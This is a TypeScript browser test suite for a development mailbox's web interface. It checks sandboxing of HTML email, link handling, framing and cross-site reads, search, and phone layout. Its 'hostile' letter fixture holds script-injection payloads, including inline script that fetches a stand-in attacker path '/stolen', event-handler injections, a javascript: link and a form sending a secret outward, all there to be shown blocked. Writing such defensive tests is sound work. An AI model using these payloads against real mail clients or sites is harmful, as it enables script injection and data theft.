/** The mailbox of development in a real browser: hostile letters do nothing, and people can read. */
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Frame, Page } from 'playwright-core';
import { sealed } from '#features/mail/content.ts';
import { newId } from '#kernel/id.ts';
import { mailboxOf } from '../../src/cli/mailbox.ts';
import { harness } from '../harness.ts';
import { openBrowser, openSite } from './browser.ts';

const { open } = await openBrowser();
const evil = await openSite('globalThis.taken = true;', 'text/javascript');
const { ports, config, pool } = await harness({ env: { MAILBOX_PORT: '0' } });
const mailbox = (await mailboxOf(config, ports, {} as never)) ?? assert.fail('there is none');
after(mailbox.close);

async function keep(subject: string, html: string) {
  const id = newId();
  const parts = sealed(ports, { text: 'A letter.', html });
  await pool.query(
    'insert into plinth.emails (id, recipient, subject, sealed_parts) values ($1, $2, $3, $4)',
    [id, 'ada@example.com', subject, parts],
  );
  return id;
}

/** Everything a letter may try by itself. */
const hostile = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=${evil.origin}/gone">
<base href="${evil.origin}/">
<link rel="stylesheet" href="${evil.origin}/style.css">
<style>body { background: url(${evil.origin}/background.png) }</style>
<script>parent.taken = top.taken = globalThis.taken = true; fetch('${evil.origin}/stolen')</script>
<script src="${evil.origin}/evil.js"></script></head>
<body onload="globalThis.taken = true"><p id="read">Read me</p>
<img src="${evil.origin}/pixel.png" onerror="globalThis.taken = true">
<iframe src="${evil.origin}/frame"></iframe><object data="${evil.origin}/object"></object>
<svg onload="globalThis.taken = true"></svg>
<form action="${evil.origin}/form"><input name="secret" value="1" autofocus onfocus="taken = true"><button id="send">Send</button></form>
<a id="script" href="javascript:void(globalThis.taken = true)">Run</a>
<a id="link" href="${mailbox.address}/?query=linked">Follow</a>
</body></html>`;

const taken = (where: Page | Frame) =>
  where.evaluate(() => (globalThis as { taken?: boolean }).taken === true);

test('a hostile letter runs nothing and reaches nobody, in its frame and by itself', async () => {
  const id = await keep('Hostile', hostile);
  for (const path of [`/?id=${id}`, `/view/${id}.html`]) {
    const { page } = await open(mailbox.address + path);
    const framed = page.frames().find((frame) => frame.url().includes('/view/'));
    const letter = framed ?? assert.fail('the letter is not shown');
    assert.equal(await letter.locator('#read').textContent(), 'Read me');
    await letter.locator('#send').click();
    await letter.locator('#script').click();
    await sleep(300); // nothing tells of what does not happen
    assert.deepEqual([await taken(page), await taken(letter), evil.asked], [false, false, []]);
    assert.equal(new URL(page.url()).origin, mailbox.address);
    await page.close();
  }
});

test('a link of a letter opens beside the mailbox', async () => {
  const id = await keep('Link', hostile);
  const { page } = await open(`${mailbox.address}/?id=${id}`);
  const opened = page.context().waitForEvent('page');
  await page.frameLocator('iframe').locator('#link').click();
  const beside = await opened;
  await beside.waitForURL(/linked/);
  assert.match(page.url(), new RegExp(id));
  await beside.close();
  await page.close();
});

test('another site shows neither the page nor a letter, and reads none', async () => {
  const id = await keep('Framed', '<p>Secret</p>');
  const paths = ['/', `/view/${id}.html`];
  const frames = paths.map((path) => `<iframe src="${mailbox.address}${path}"></iframe>`);
  const site = await openSite(`<!doctype html>${frames.join('')}`);
  const { page } = await open(site.origin);
  for (const frame of page.frames().slice(1)) {
    assert.equal(frame.url(), 'chrome-error://chromewebdata/');
  }
  for (const mode of ['cors', 'no-cors'] as const) {
    const isRead = await page.evaluate(
      ([url, mode]) =>
        fetch(url as string, { mode: mode as RequestMode }).then(
          () => true,
          () => false,
        ),
      [`${mailbox.address}/api/v1/search?query=ada`, mode],
    );
    assert.equal(isRead, false);
  }
  await page.close();
});

test('letters appear by themselves, are found while one types, and fit on a phone', async () => {
  const { page, complaints } = await open(mailbox.address);
  await keep('The newest of all', '<h1>Newest</h1>');
  await page.getByText('The newest of all').waitFor();
  await page.getByRole('searchbox').fill('subject:newest');
  await page.waitForURL(/query=/);
  await page.waitForFunction(() => document.querySelectorAll('#letters li').length === 1);
  await page.getByText('The newest of all').click();
  await page.frameLocator('iframe').getByText('Newest').waitFor();
  await page.setViewportSize({ width: 390, height: 800 });
  const isWide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
  assert.equal(isWide, false);
  await page.getByText('All letters').click();
  await page.getByText('The newest of all').waitFor();
  assert.deepEqual(complaints, []);
  await page.close();
});
